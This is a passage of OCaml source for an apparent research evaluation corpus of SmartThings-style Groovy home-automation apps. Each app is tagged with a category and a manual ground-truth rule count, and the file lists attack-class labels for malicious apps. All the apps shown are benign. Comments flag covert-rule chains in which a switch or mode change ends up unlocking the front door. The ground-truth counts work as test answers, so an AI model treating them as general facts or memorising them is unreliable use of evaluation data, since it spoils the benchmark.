  if (evt.value == "active") {
    followLights.on()
  } else {
    if (evt.value == "inactive") {
      runIn(600, scheduledOff)
    }
  }
}

def scheduledOff() {
  followLights.off()
}
|}

let turn_on_at_sunset =
  entry "TurnOnAtSunset" Lighting 1
    {|
definition(name: "TurnOnAtSunset", description: "Turn lights on at sunset")

preferences {
  section("Turn on these lights...") {
    input "eveningLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(location, "sunset", sunsetHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunset", sunsetHandler)
}

def sunsetHandler(evt) {
  eveningLights.on()
}
|}

let turn_off_at_sunrise =
  entry "TurnOffAtSunrise" Lighting 1
    {|
definition(name: "TurnOffAtSunrise", description: "Turn lights off at sunrise")

preferences {
  section("Turn off these lights...") {
    input "eveningLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(location, "sunrise", sunriseHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunrise", sunriseHandler)
}

def sunriseHandler(evt) {
  eveningLights.off()
}
|}

let good_night_lights =
  entry "GoodNightLights" Lighting 1
    {|
definition(name: "GoodNightLights", description: "Turn all lights off when the home goes into Night mode")

preferences {
  section("Turn off these lights...") {
    input "bedtimeLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    bedtimeLights.off()
  }
}
|}

let welcome_home_lights =
  entry "WelcomeHomeLights" Lighting 1
    {|
definition(name: "WelcomeHomeLights", description: "Turn the porch light on when someone arrives")

preferences {
  section("When someone arrives...") {
    input "presence1", "capability.presenceSensor", title: "Who?"
  }
  section("Turn on a light...") {
    input "porchLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  subscribe(presence1, "presence.present", presenceHandler)
}

def updated() {
  unsubscribe()
  subscribe(presence1, "presence.present", presenceHandler)
}

def presenceHandler(evt) {
  porchLight.on()
}
|}

let dim_with_me =
  entry "DimWithMe" Lighting 1
    {|
definition(name: "DimWithMe", description: "Synchronize slave dimmer levels with a master dimmer")

preferences {
  section("Master dimmer...") {
    input "masterDimmer", "capability.switchLevel", title: "Which?"
  }
  section("Slave dimmer lights...") {
    input "slaveDimmers", "capability.switchLevel", multiple: true, title: "Which?"
  }
}

def installed() {
  subscribe(masterDimmer, "level", levelHandler)
}

def updated() {
  unsubscribe()
  subscribe(masterDimmer, "level", levelHandler)
}

def levelHandler(evt) {
  def newLevel = evt.integerValue
  slaveDimmers.setLevel(newLevel)
}
|}

let double_tap_toggle =
  entry "DoubleTapToggle" Lighting 2
    {|
definition(name: "DoubleTapToggle", description: "Toggle a lamp from the mobile app button")

preferences {
  section("Toggle this lamp...") {
    input "toggleLamp", "capability.switch", title: "Which lamp?"
  }
}

def installed() {
  subscribe(app, "appTouch", appTouchHandler)
}

def updated() {
  unsubscribe()
  subscribe(app, "appTouch", appTouchHandler)
}

def appTouchHandler(evt) {
  if (toggleLamp.currentSwitch == "off") {
    toggleLamp.on()
  } else {
    toggleLamp.off()
  }
}
|}

let cloudy_day_light =
  entry "CloudyDayLight" Lighting 1
    {|
definition(name: "CloudyDayLight", description: "Turn on the reading lamp when a cloudy day darkens the room")

preferences {
  section("Monitor the luminosity...") {
    input "luxSensor", "capability.illuminanceMeasurement", title: "Where?"
    input "darkThreshold", "number", title: "Darker than?"
  }
  section("Turn on...") {
    input "readingLamp", "capability.switch", title: "Which lamp?"
  }
}

def installed() {
  subscribe(luxSensor, "illuminance", luxHandler)
}

def updated() {
  unsubscribe()
  subscribe(luxSensor, "illuminance", luxHandler)
}

def luxHandler(evt) {
  if (evt.integerValue < darkThreshold) {
    readingLamp.on()
  }
}
|}

let vacancy_lights_off =
  entry "VacancyLightsOff" Lighting 1
    {|
definition(name: "VacancyLightsOff", description: "Turn lights off when everyone has left")

preferences {
  section("When this person leaves...") {
    input "person1", "capability.presenceSensor", title: "Who?"
  }
  section("Turn off these lights...") {
    input "houseLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(person1, "presence", presenceHandler)
}

def updated() {
  unsubscribe()
  subscribe(person1, "presence", presenceHandler)
}

def presenceHandler(evt) {
  if (evt.value == "not present") {
    houseLights.off()
  }
}
|}

let scheduled_porch_light =
  entry "ScheduledPorchLight" Lighting 2
    {|
definition(name: "ScheduledPorchLight", description: "Turn the porch light on in the evening and off late at night")

preferences {
  section("Control this light...") {
    input "porchLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  schedule("0 0 19 * * ?", eveningOn)
  schedule("0 30 23 * * ?", nightOff)
}

def updated() {
  unschedule()
  schedule("0 0 19 * * ?", eveningOn)
  schedule("0 30 23 * * ?", nightOff)
}

def eveningOn() {
  porchLight.on()
}

def nightOff() {
  porchLight.off()
}
|}

let all =
  [
    let_there_be_dark;
    light_up_the_night;
    smart_nightlight;
    brighten_my_path;
    darken_behind_me;
    undead_early_warning;
    lights_off_when_closed;
    turn_it_on_for_5_minutes;
    light_follows_me;
    turn_on_at_sunset;
    turn_off_at_sunrise;
    good_night_lights;
    welcome_home_lights;
    dim_with_me;
    double_tap_toggle;
    cloudy_day_light;
    vacancy_lights_off;
    scheduled_porch_light;
  ]
