(** Corpus entry metadata.

    Each entry carries the SmartApp source (in the Groovy subset), a
    functional category used by the evaluation (Fig 8 grouping), the
    manually established ground-truth rule count (paper §VIII-B uses
    manual review as ground truth) and, for malicious apps, the attack
    class of Table III. *)

type attack =
  | Malicious_control
  | Abusing_permission
  | Adware
  | Spyware
  | Ransomware
  | Remote_control
  | Ipc_collusion
  | Shadow_payload
  | Endpoint_attack
  | App_update

let attack_to_string = function
  | Malicious_control -> "Malicious Control"
  | Abusing_permission -> "Abusing Permission"
  | Adware -> "Adware"
  | Spyware -> "Spyware"
  | Ransomware -> "Ransomware"
  | Remote_control -> "Remote Control"
  | Ipc_collusion -> "IPC"
  | Shadow_payload -> "Shadow Payload"
  | Endpoint_attack -> "Endpoint Attack"
  | App_update -> "App Update"

type category =
  | Demo  (** the paper's 5 running-example apps *)
  | Lighting
  | Climate
  | Security
  | Energy
  | Convenience
  | Modes
  | Safety
  | Notification  (** notification-only: excluded from the 90-app audit *)
  | Web_service  (** exposes endpoints; defines no rules itself *)
  | Malicious of attack

let category_to_string = function
  | Demo -> "demo"
  | Lighting -> "lighting"
  | Climate -> "climate"
  | Security -> "security"
  | Energy -> "energy"
  | Convenience -> "convenience"
  | Modes -> "modes"
  | Safety -> "safety"
  | Notification -> "notification"
  | Web_service -> "web service"
  | Malicious a -> "malicious (" ^ attack_to_string a ^ ")"

type t = {
  name : string;
  category : category;
  source : string;
  ground_truth_rules : int;
      (** rules a manual review finds; -1 when rules live outside the app
          (web services) *)
  controls_devices : bool;  (** issues device/mode commands *)
}

let entry ?(controls_devices = true) name category ground_truth_rules source =
  { name; category; source; ground_truth_rules; controls_devices }
