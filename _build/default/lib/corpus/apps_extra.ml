(** Final corpus tranche bringing the rule-defining app count to the
    paper's 146 (§VIII-B). *)

open App_entry

let bathroom_fan_timer =
  entry "BathroomFanTimer" Climate 1
    {|
definition(name: "BathroomFanTimer", description: "Run the bathroom fan for a while after the light goes off")

preferences {
  section("When this light turns off...") {
    input "bathLight", "capability.switch", title: "Bathroom light"
  }
  section("Run this fan...") {
    input "bathFan", "capability.switch", title: "Bathroom fan"
  }
}

def installed() {
  subscribe(bathLight, "switch.off", lightOffHandler)
}

def updated() {
  unsubscribe()
  subscribe(bathLight, "switch.off", lightOffHandler)
}

def lightOffHandler(evt) {
  bathFan.on()
  runIn(600, fanOff)
}

def fanOff() {
  bathFan.off()
}
|}

let driveway_alert_light =
  entry "DrivewayAlertLight" Lighting 1
    {|
definition(name: "DrivewayAlertLight", description: "Flash the porch light when a car enters the driveway")

preferences {
  section("Driveway sensor...") {
    input "drivewayMotion", "capability.motionSensor", title: "Which sensor?"
  }
  section("Flash this light...") {
    input "porchLight", "capability.switch", title: "Porch light"
  }
}

def installed() {
  subscribe(drivewayMotion, "motion.active", carHandler)
}

def updated() {
  unsubscribe()
  subscribe(drivewayMotion, "motion.active", carHandler)
}

def carHandler(evt) {
  porchLight.on()
  runIn(120, lightOff)
}

def lightOff() {
  porchLight.off()
}
|}

let fireplace_guard =
  entry "FireplaceGuard" Safety 1
    {|
definition(name: "FireplaceGuard", description: "Cut the fireplace blower if the room overheats")

preferences {
  section("Room temperature...") {
    input "hearthTemp", "capability.temperatureMeasurement", title: "Where?"
  }
  section("Cut this blower...") {
    input "blowerFan", "capability.switch", title: "Blower fan"
  }
}

def installed() {
  subscribe(hearthTemp, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(hearthTemp, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue > 95) {
    blowerFan.off()
  }
}
|}

let plant_watering =
  entry "PlantWatering" Convenience 1
    {|
definition(name: "PlantWatering", description: "Open the irrigation valve on a morning schedule")

preferences {
  section("Irrigation valve...") {
    input "gardenValve", "capability.valve", title: "Which valve?"
  }
}

def installed() {
  schedule("0 15 6 * * ?", water)
}

def updated() {
  unschedule()
  schedule("0 15 6 * * ?", water)
}

def water() {
  gardenValve.open()
  runIn(1200, stopWatering)
}

def stopWatering() {
  gardenValve.close()
}
|}

let mailbox_notifier =
  entry ~controls_devices:false "MailboxNotifier" Notification 1
    {|
definition(name: "MailboxNotifier", description: "Know the moment the mail arrives")

preferences {
  section("Mailbox sensor...") {
    input "mailboxContact", "capability.contactSensor", title: "Which contact?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(mailboxContact, "contact.open", mailHandler)
}

def updated() {
  unsubscribe()
  subscribe(mailboxContact, "contact.open", mailHandler)
}

def mailHandler(evt) {
  sendSmsMessage(phone1, "The mail is here")
}
|}

let thermostat_night_setback =
  entry "ThermostatNightSetback" Climate 1
    {|
definition(name: "ThermostatNightSetback", description: "Set back the heat when the home enters Night mode")

preferences {
  section("Set back this thermostat...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
    input "nightTemp", "number", title: "Night setpoint?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    mainThermostat.setHeatingSetpoint(nightTemp)
  }
}
|}

let doorbell_pause_tv =
  entry "DoorbellPauseTv" Convenience 1
    {|
definition(name: "DoorbellPauseTv", description: "Mute the media when the doorbell rings")

preferences {
  section("Doorbell button...") {
    input "doorbell", "capability.button", title: "Which button?"
  }
  section("Mute this player...") {
    input "mediaPlayer", "capability.musicPlayer", title: "Which player?"
  }
}

def installed() {
  subscribe(doorbell, "button.pushed", ringHandler)
}

def updated() {
  unsubscribe()
  subscribe(doorbell, "button.pushed", ringHandler)
}

def ringHandler(evt) {
  mediaPlayer.mute()
}
|}

let deck_lights_sunset =
  entry "DeckLightsSunset" Lighting 2
    {|
definition(name: "DeckLightsSunset", description: "Deck lights follow the sun")

preferences {
  section("Deck lights...") {
    input "deckLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(location, "sunset", duskHandler)
  subscribe(location, "sunrise", dawnHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunset", duskHandler)
  subscribe(location, "sunrise", dawnHandler)
}

def duskHandler(evt) {
  deckLights.on()
}

def dawnHandler(evt) {
  deckLights.off()
}
|}

let freezer_door_alarm =
  entry ~controls_devices:false "FreezerDoorAlarm" Notification 1
    {|
definition(name: "FreezerDoorAlarm", description: "Warn before the groceries thaw")

preferences {
  section("Freezer door...") {
    input "freezerContact", "capability.contactSensor", title: "Which contact?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(freezerContact, "contact.open", openHandler)
}

def updated() {
  unsubscribe()
  subscribe(freezerContact, "contact.open", openHandler)
}

def openHandler(evt) {
  runIn(600, checkDoor)
}

def checkDoor() {
  if (freezerContact.currentContact == "open") {
    sendSmsMessage(phone1, "Freezer door has been open for 10 minutes!")
  }
}
|}

let humidity_window_guard =
  entry "HumidityWindowGuard" Climate 1
    {|
definition(name: "HumidityWindowGuard", description: "Close the window opener when outdoor humidity soars")

preferences {
  section("Humidity...") {
    input "outdoorHumidity", "capability.relativeHumidityMeasurement", title: "Where?"
  }
  section("Close this window opener...") {
    input "windowSwitch", "capability.switch", title: "Window opener"
  }
}

def installed() {
  subscribe(outdoorHumidity, "humidity", humidityHandler)
}

def updated() {
  unsubscribe()
  subscribe(outdoorHumidity, "humidity", humidityHandler)
}

def humidityHandler(evt) {
  if (evt.integerValue > 85) {
    windowSwitch.off()
  }
}
|}

let wake_up_light =
  entry "WakeUpLight" Lighting 1
    {|
definition(name: "WakeUpLight", description: "Fade the bedroom dimmer up before the alarm")

preferences {
  section("Fade this dimmer light...") {
    input "bedDimmer", "capability.switchLevel", title: "Which dimmer?"
  }
}

def installed() {
  schedule("0 40 6 * * ?", fadeUp)
}

def updated() {
  unschedule()
  schedule("0 40 6 * * ?", fadeUp)
}

def fadeUp() {
  bedDimmer.setLevel(60)
}
|}

let generator_watch =
  entry ~controls_devices:false "GeneratorWatch" Notification 1
    {|
definition(name: "GeneratorWatch", description: "Know when the backup generator kicks in")

preferences {
  section("Generator meter...") {
    input "genMeter", "capability.powerMeter", title: "Which meter?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(genMeter, "power", powerHandler)
}

def updated() {
  unsubscribe()
  subscribe(genMeter, "power", powerHandler)
}

def powerHandler(evt) {
  if (evt.integerValue > 100) {
    sendSmsMessage(phone1, "Backup generator is running")
  }
}
|}

let pool_pump_schedule =
  entry "PoolPumpSchedule" Energy 2
    {|
definition(name: "PoolPumpSchedule", description: "Run the pool pump during off-peak hours only")

preferences {
  section("Pool pump outlet...") {
    input "poolPump", "capability.switch", title: "Which outlet?"
  }
}

def installed() {
  schedule("0 0 10 * * ?", pumpOn)
  schedule("0 0 16 * * ?", pumpOff)
}

def updated() {
  unschedule()
  schedule("0 0 10 * * ?", pumpOn)
  schedule("0 0 16 * * ?", pumpOff)
}

def pumpOn() {
  poolPump.on()
}

def pumpOff() {
  poolPump.off()
}
|}

let attic_fan_controller =
  entry "AtticFanController" Climate 2
    {|
definition(name: "AtticFanController", description: "Exhaust the attic when it bakes")

preferences {
  section("Attic temperature...") {
    input "atticTemp", "capability.temperatureMeasurement", title: "Where?"
  }
  section("Run this fan...") {
    input "atticFan", "capability.switch", title: "Attic fan"
  }
}

def installed() {
  subscribe(atticTemp, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(atticTemp, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def t = evt.integerValue
  if (t > 100) {
    atticFan.on()
  } else {
    if (t < 85) {
      atticFan.off()
    }
  }
}
|}

let nursery_monitor_light =
  entry "NurseryMonitorLight" Lighting 1
    {|
definition(name: "NurseryMonitorLight", description: "Soft light when the baby stirs at night")

preferences {
  section("Nursery motion...") {
    input "cribMotion", "capability.motionSensor", title: "Which sensor?"
  }
  section("Soft light...") {
    input "nurseryDimmer", "capability.switchLevel", title: "Which dimmer light?"
  }
}

def installed() {
  subscribe(cribMotion, "motion.active", stirHandler)
}

def updated() {
  unsubscribe()
  subscribe(cribMotion, "motion.active", stirHandler)
}

def stirHandler(evt) {
  if (location.mode == "Night") {
    nurseryDimmer.setLevel(10)
  }
}
|}

let weekend_lie_in =
  entry "WeekendLieIn" Modes 1
    {|
definition(name: "WeekendLieIn", description: "Hold Night mode later on weekends")

def installed() {
  schedule("0 0 9 * * ?", weekendWake)
}

def updated() {
  unschedule()
  schedule("0 0 9 * * ?", weekendWake)
}

def weekendWake() {
  if (location.mode == "Night") {
    setLocationMode("Home")
  }
}
|}

let garage_heater_interlock =
  entry "GarageHeaterInterlock" Safety 1
    {|
definition(name: "GarageHeaterInterlock", description: "Never heat the garage with the door open")

preferences {
  section("Garage door...") {
    input "garageContact", "capability.contactSensor", title: "Which contact?"
  }
  section("Cut this heater...") {
    input "garageHeater", "capability.switch", title: "Garage heater"
  }
}

def installed() {
  subscribe(garageContact, "contact.open", openHandler)
}

def updated() {
  unsubscribe()
  subscribe(garageContact, "contact.open", openHandler)
}

def openHandler(evt) {
  if (garageHeater.currentSwitch == "on") {
    garageHeater.off()
  }
}
|}

let all =
  [
    bathroom_fan_timer;
    driveway_alert_light;
    fireplace_guard;
    plant_watering;
    mailbox_notifier;
    thermostat_night_setback;
    doorbell_pause_tv;
    deck_lights_sunset;
    freezer_door_alarm;
    humidity_window_guard;
    wake_up_light;
    generator_watch;
    pool_pump_schedule;
    attic_fan_controller;
    nursery_monitor_light;
    weekend_lie_in;
    garage_heater_interlock;
  ]
