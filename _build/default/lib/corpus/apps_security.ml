(** Security SmartApps. SwitchChangesMode + MakeItSo form the paper's
    covert-rule case 1; CurlingIron chains into them (case 2);
    NFCTagToggle vs LockItWhenILeave is case 3 (§VIII-B). *)

open App_entry

let switch_changes_mode =
  entry "SwitchChangesMode" Security 2
    {|
definition(name: "SwitchChangesMode", description: "Change the mode of your home according to a switch state")

preferences {
  section("Which switch...") {
    input "modeSwitch", "capability.switch", title: "Switch"
  }
  section("Modes...") {
    input "onMode", "mode", title: "Mode when on?"
    input "offMode", "mode", title: "Mode when off?"
  }
}

def installed() {
  subscribe(modeSwitch, "switch", switchHandler)
}

def updated() {
  unsubscribe()
  subscribe(modeSwitch, "switch", switchHandler)
}

def switchHandler(evt) {
  if (evt.value == "on") {
    setLocationMode(onMode)
  } else {
    if (evt.value == "off") {
      setLocationMode(offMode)
    }
  }
}
|}

let make_it_so =
  entry "MakeItSo" Security 2
    {|
definition(name: "MakeItSo", description: "Restore switch and lock states when the home enters a mode")

preferences {
  section("When entering Home mode, restore...") {
    input "homeSwitches", "capability.switch", multiple: true, title: "Switches to turn on"
    input "frontDoor", "capability.lock", title: "Lock to unlock"
  }
}

def installed() {
  subscribe(location, "mode", modeChangeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeChangeHandler)
}

def modeChangeHandler(evt) {
  if (evt.value == "Home") {
    homeSwitches.on()
    frontDoor.unlock()
  } else {
    if (evt.value == "Away") {
      homeSwitches.off()
      frontDoor.lock()
    }
  }
}
|}

let curling_iron =
  entry "CurlingIron" Security 1
    {|
definition(name: "CurlingIron", description: "Turn on the outlets when motion is detected, and off again after a while")

preferences {
  section("When there is motion...") {
    input "bathroomMotion", "capability.motionSensor", title: "Where?"
  }
  section("Turn on these outlets...") {
    input "outlets", "capability.switch", multiple: true, title: "Which outlets?"
  }
}

def installed() {
  subscribe(bathroomMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(bathroomMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  outlets.on()
  runIn(1800, outletsOff)
}

def outletsOff() {
  outlets.off()
}
|}

let nfc_tag_toggle =
  entry "NFCTagToggle" Security 4
    {|
definition(name: "NFCTagToggle", description: "Toggle appliances and door locks by tapping the app button")

preferences {
  section("Toggle these...") {
    input "applianceSwitch", "capability.switch", title: "Appliance switch"
    input "doorLock", "capability.lock", title: "Door lock"
  }
}

def installed() {
  subscribe(app, "appTouch", touchHandler)
}

def updated() {
  unsubscribe()
  subscribe(app, "appTouch", touchHandler)
}

def touchHandler(evt) {
  if (applianceSwitch.currentSwitch == "on") {
    applianceSwitch.off()
  } else {
    applianceSwitch.on()
  }
  if (doorLock.currentLock == "locked") {
    doorLock.unlock()
  } else {
    doorLock.lock()
  }
}
|}

let lock_it_when_i_leave =
  entry "LockItWhenILeave" Security 1
    {|
definition(name: "LockItWhenILeave", description: "Lock the door when your presence sensor leaves")

preferences {
  section("When I leave...") {
    input "myPresence", "capability.presenceSensor", title: "Whose presence?"
  }
  section("Lock this door...") {
    input "doorLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(myPresence, "presence.not present", departureHandler)
}

def updated() {
  unsubscribe()
  subscribe(myPresence, "presence.not present", departureHandler)
}

def departureHandler(evt) {
  doorLock.lock()
}
|}

let unlock_it_when_i_arrive =
  entry "UnlockItWhenIArrive" Security 1
    {|
definition(name: "UnlockItWhenIArrive", description: "Unlock the door when your presence sensor arrives")

preferences {
  section("When I arrive...") {
    input "myPresence", "capability.presenceSensor", title: "Whose presence?"
  }
  section("Unlock this door...") {
    input "doorLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(myPresence, "presence.present", arrivalHandler)
}

def updated() {
  unsubscribe()
  subscribe(myPresence, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
  doorLock.unlock()
}
|}

let auto_lock_door =
  entry "AutoLockDoor" Security 1
    {|
definition(name: "AutoLockDoor", description: "Automatically lock the door a few minutes after it closes")

preferences {
  section("When this door closes...") {
    input "doorContact", "capability.contactSensor", title: "Which contact?"
  }
  section("Lock this lock...") {
    input "doorLock", "capability.lock", title: "Which lock?"
    input "lockDelay", "number", title: "Delay (seconds)?"
  }
}

def installed() {
  subscribe(doorContact, "contact.closed", doorClosedHandler)
}

def updated() {
  unsubscribe()
  subscribe(doorContact, "contact.closed", doorClosedHandler)
}

def doorClosedHandler(evt) {
  runIn(120, lockTheDoor)
}

def lockTheDoor() {
  doorLock.lock()
}
|}

let smart_security =
  entry "SmartSecurity" Security 1
    {|
definition(name: "SmartSecurity", description: "Sound the alarm on motion while the home is in Away mode")

preferences {
  section("Watch for motion...") {
    input "securityMotion", "capability.motionSensor", title: "Where?"
  }
  section("Sound this alarm...") {
    input "securityAlarm", "capability.alarm", title: "Which alarm?"
  }
}

def installed() {
  subscribe(securityMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(securityMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  if (location.mode == "Away") {
    securityAlarm.siren()
    sendPush("Motion detected while you are away!")
  }
}
|}

let everyone_leaves =
  (* two subscriptions share one handler: two rules *)
  entry "EveryoneLeaves" Security 2
    {|
definition(name: "EveryoneLeaves", description: "Set the home to Away mode when the last person leaves")

preferences {
  section("Track these people...") {
    input "person1", "capability.presenceSensor", title: "Person 1"
    input "person2", "capability.presenceSensor", title: "Person 2"
  }
}

def installed() {
  subscribe(person1, "presence", presenceHandler)
  subscribe(person2, "presence", presenceHandler)
}

def updated() {
  unsubscribe()
  subscribe(person1, "presence", presenceHandler)
  subscribe(person2, "presence", presenceHandler)
}

def presenceHandler(evt) {
  if (evt.value == "not present") {
    if ((person1.currentPresence == "not present") && (person2.currentPresence == "not present")) {
      setLocationMode("Away")
    }
  }
}
|}

let someone_arrives =
  entry "SomeoneArrives" Security 1
    {|
definition(name: "SomeoneArrives", description: "Set the home to Home mode when anyone arrives")

preferences {
  section("Track these people...") {
    input "person1", "capability.presenceSensor", title: "Person 1"
  }
}

def installed() {
  subscribe(person1, "presence.present", arrivalHandler)
}

def updated() {
  unsubscribe()
  subscribe(person1, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
  setLocationMode("Home")
}
|}

let forgiving_security =
  entry "ForgivingSecurity" Security 1
    {|
definition(name: "ForgivingSecurity", description: "Silence the alarm when the home returns to Home mode")

preferences {
  section("Silence this alarm...") {
    input "securityAlarm", "capability.alarm", title: "Which alarm?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Home") {
    securityAlarm.off()
  }
}
|}

let garage_closer =
  entry "GarageCloser" Security 1
    {|
definition(name: "GarageCloser", description: "Close the garage door every night")

preferences {
  section("Close this garage door...") {
    input "garageDoor", "capability.garageDoorControl", title: "Which door?"
  }
}

def installed() {
  schedule("0 0 22 * * ?", closeGarage)
}

def updated() {
  unschedule()
  schedule("0 0 22 * * ?", closeGarage)
}

def closeGarage() {
  garageDoor.close()
}
|}

let intruder_strobe =
  entry "IntruderStrobe" Security 1
    {|
definition(name: "IntruderStrobe", description: "Strobe the alarm if a door opens while the home is Away")

preferences {
  section("Watch this door...") {
    input "entryContact", "capability.contactSensor", title: "Which contact?"
  }
  section("Strobe this alarm...") {
    input "strobeAlarm", "capability.alarm", title: "Which alarm?"
  }
}

def installed() {
  subscribe(entryContact, "contact.open", openHandler)
}

def updated() {
  unsubscribe()
  subscribe(entryContact, "contact.open", openHandler)
}

def openHandler(evt) {
  if (location.mode == "Away") {
    strobeAlarm.strobe()
  }
}
|}

let lock_it_at_night =
  entry "LockItAtNight" Security 2
    {|
definition(name: "LockItAtNight", description: "Lock the doors when the home enters Night mode, unlock in the morning")

preferences {
  section("Control this lock...") {
    input "nightLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
  schedule("0 0 7 * * ?", morningUnlock)
}

def updated() {
  unsubscribe()
  unschedule()
  subscribe(location, "mode", modeHandler)
  schedule("0 0 7 * * ?", morningUnlock)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    nightLock.lock()
  }
}

def morningUnlock() {
  if (location.mode == "Home") {
    nightLock.unlock()
  }
}
|}

let valve_guard =
  entry "ValveGuard" Security 1
    {|
definition(name: "ValveGuard", description: "Close the water valve when the home is set to Away")

preferences {
  section("Close this valve...") {
    input "mainValve", "capability.valve", title: "Which valve?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Away") {
    mainValve.close()
  }
}
|}

let all =
  [
    switch_changes_mode;
    make_it_so;
    curling_iron;
    nfc_tag_toggle;
    lock_it_when_i_leave;
    unlock_it_when_i_arrive;
    auto_lock_door;
    smart_security;
    everyone_leaves;
    someone_arrives;
    forgiving_security;
    garage_closer;
    intruder_strobe;
    lock_it_at_night;
    valve_guard;
  ]
