(** Notification-only SmartApps: they send SMS/push but control no
    devices, so the paper excludes them from the 90-app audit
    ("their functionalities are to send notifications ... and do not
    control devices", §VIII-B). *)

open App_entry

let notification name description trigger_section install_body handler =
  entry ~controls_devices:false name Notification 1
    (Printf.sprintf
       {|
definition(name: "%s", description: "%s")

preferences {
%s
  section("Notify...") {
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
%s
}

def updated() {
  unsubscribe()
%s
}

%s
|}
       name description trigger_section install_body install_body handler)

let notify_when_door_opens =
  notification "NotifyWhenDoorOpens" "Text me when the front door opens"
    {|  section("When this door opens...") {
    input "frontContact", "capability.contactSensor", title: "Which contact?"
  }|}
    {|  subscribe(frontContact, "contact.open", openHandler)|}
    {|def openHandler(evt) {
  sendSmsMessage(phone1, "The front door just opened")
}|}

let notify_on_motion =
  notification "NotifyOnMotion" "Push a note when motion is seen"
    {|  section("When motion is seen...") {
    input "watchMotion", "capability.motionSensor", title: "Where?"
  }|}
    {|  subscribe(watchMotion, "motion.active", motionHandler)|}
    {|def motionHandler(evt) {
  sendPush("Motion detected")
}|}

let temperature_alert =
  notification "TemperatureAlert" "Warn me when it gets too cold inside"
    {|  section("Monitor...") {
    input "tempSensor", "capability.temperatureMeasurement", title: "Where?"
    input "lowPoint", "number", title: "Below?"
  }|}
    {|  subscribe(tempSensor, "temperature", temperatureHandler)|}
    {|def temperatureHandler(evt) {
  if (evt.integerValue < lowPoint) {
    sendSmsMessage(phone1, "Temperature is dropping at home")
  }
}|}

let humidity_alert =
  notification "HumidityAlert" "Warn me when humidity leaves the comfort band"
    {|  section("Monitor...") {
    input "humSensor", "capability.relativeHumidityMeasurement", title: "Where?"
    input "highPoint", "number", title: "Above?"
  }|}
    {|  subscribe(humSensor, "humidity", humidityHandler)|}
    {|def humidityHandler(evt) {
  if (evt.integerValue > highPoint) {
    sendPush("Humidity is high")
  }
}|}

let power_alert =
  notification "PowerAlert" "Tell me when power use is unusual"
    {|  section("Monitor...") {
    input "meter", "capability.powerMeter", title: "Which meter?"
    input "wattPoint", "number", title: "Above (W)?"
  }|}
    {|  subscribe(meter, "power", powerHandler)|}
    {|def powerHandler(evt) {
  if (evt.integerValue > wattPoint) {
    sendSmsMessage(phone1, "High power draw right now")
  }
}|}

let battery_monitor =
  notification "BatteryMonitor" "Remind me to change batteries"
    {|  section("Monitor...") {
    input "batteryDevice", "capability.battery", title: "Which device?"
  }|}
    {|  subscribe(batteryDevice, "battery", batteryHandler)|}
    {|def batteryHandler(evt) {
  if (evt.integerValue < 15) {
    sendPush("A battery is running low")
  }
}|}

let presence_notify =
  notification "PresenceNotify" "Text me when the kids get home"
    {|  section("When they arrive...") {
    input "kidPresence", "capability.presenceSensor", title: "Whose sensor?"
  }|}
    {|  subscribe(kidPresence, "presence.present", arrivalHandler)|}
    {|def arrivalHandler(evt) {
  sendSmsMessage(phone1, "They are home")
}|}

let smoke_notify =
  notification "SmokeNotify" "Push immediately on smoke"
    {|  section("When smoke is detected...") {
    input "smokeSensor", "capability.smokeDetector", title: "Where?"
  }|}
    {|  subscribe(smokeSensor, "smoke.detected", smokeHandler)|}
    {|def smokeHandler(evt) {
  sendPush("SMOKE DETECTED")
  sendSmsMessage(phone1, "SMOKE DETECTED AT HOME")
}|}

let leak_notify =
  notification "LeakNotify" "Text me on any water leak"
    {|  section("When water is sensed...") {
    input "leakSensor", "capability.waterSensor", title: "Where?"
  }|}
    {|  subscribe(leakSensor, "water.wet", wetHandler)|}
    {|def wetHandler(evt) {
  sendSmsMessage(phone1, "Water detected!")
}|}

let mode_change_notify =
  notification "ModeChangeNotify" "Tell me whenever the home changes mode"
    {|  section("Watch the home mode...") {
    paragraph "No devices needed"
  }|}
